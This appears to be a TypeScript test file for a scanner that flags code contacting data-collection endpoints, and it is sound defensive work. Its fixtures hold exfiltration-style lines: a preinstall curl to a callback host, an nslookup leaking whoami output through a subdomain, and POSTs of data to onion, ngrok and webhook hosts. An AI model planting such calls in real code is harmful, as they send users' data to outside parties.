import detector from "../../../../src/engine/detectors/content/collection-endpoint-contacted.ts";
import { strengthsOfPrograms } from "../run-programs.ts";

const COLLECTOR = ["webhook", "site"].join(".");
const CALLBACK = ["x.oast", "fun"].join(".");
const post = (host: string, body: string) => `await fetch("https://${host}/x", { method: "POST", body: ${body} });\n`;

test.each([
  ["a request bin", { "src/a.js": `fetch("https://${COLLECTOR}/x");\n` }, ["strong"]],
  [
    "an install script that calls back",
    {
      "package.json": `{ "name": "x", "version": "1.0.0", "scripts": { "preinstall": "curl https://${CALLBACK}" } }\n`,
    },
    ["decisive"],
  ],
  ["a name that is put together", { "a.sh": `nslookup "$(whoami).${CALLBACK}"\n` }, ["strong"]],
  ["a hidden service", { "src/a.js": post("abcdefghijklmnop.onion", "data") }, ["strong"]],
  ["a tunnel", { "src/a.js": post("abc.ngrok.io", "data") }, ["medium"]],
  ["a bare public address", { "src/a.sh": "curl http://45.77.12.9:8080/x\n" }, ["medium"]],
  ["a chat", { "src/a.js": post("discord.com/api/webhooks/1", "text") }, ["weak"]],
  [
    "one host in two files",
    { "a.js": `fetch("https://${COLLECTOR}/x");\n`, "b.js": `fetch("https://${COLLECTOR}/y");\n` },
    ["strong"],
  ],
  ["a test", { "test/a.test.js": `fetch("https://${COLLECTOR}/x");\n` }, ["weak"]],
  ["a private address", { "src/a.sh": "curl http://192.168.1.9:8080/x\n" }, []],
  ["an address of the documentation", { "src/a.sh": "curl http://203.0.113.9/x\n" }, []],
  ["an ordinary host", { "src/a.js": 'fetch("https://api.example.com");\n' }, []],
  ["a host that is only named", { "src/a.js": `export const HOSTS = ["${COLLECTOR}"];\n` }, []],
  ["a manual", { "README.md": `curl https://${COLLECTOR}/x\n` }, []],
] as const)("%s", async (_, files, expected) => {
  expect(await strengthsOfPrograms(detector, files)).toEqual(expected);
});

test("a host that the policy allows", async () => {
  const files = { "src/a.js": `fetch("https://${COLLECTOR}/x");\n` };
  expect(await strengthsOfPrograms(detector, files, { allowedHosts: [COLLECTOR] })).toEqual([]);
});
